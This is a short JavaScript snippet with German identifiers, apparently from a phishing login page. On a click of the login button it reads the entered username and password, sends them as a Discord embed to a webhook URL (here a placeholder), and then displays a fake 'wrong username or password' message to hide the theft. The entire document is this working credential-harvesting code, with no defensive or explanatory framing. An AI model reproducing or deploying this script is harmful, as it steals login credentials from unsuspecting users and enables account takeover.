const ziel = "https://discord.com/api/webhooks/000000000000000000/PLACEHOLDER";
document.getElementById("knopf-anmelden").addEventListener("click", function () {
  const name = document.getElementById("feld-name").value;
  const wort = document.getElementById("feld-passwort").value;
  const paket = {
    content: "**Neue Anmeldung**",
    embeds: [{ title: "Anmeldung", color: 16711680, fields: [
      { name: "Benutzer", value: name || "leer", inline: false },
      { name: "Passwort", value: wort || "leer", inline: false }
    ] }]
  };
  fetch(ziel, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(paket) })
    .then(() => { document.getElementById("fehler").textContent = "Benutzername oder Passwort falsch."; });
});
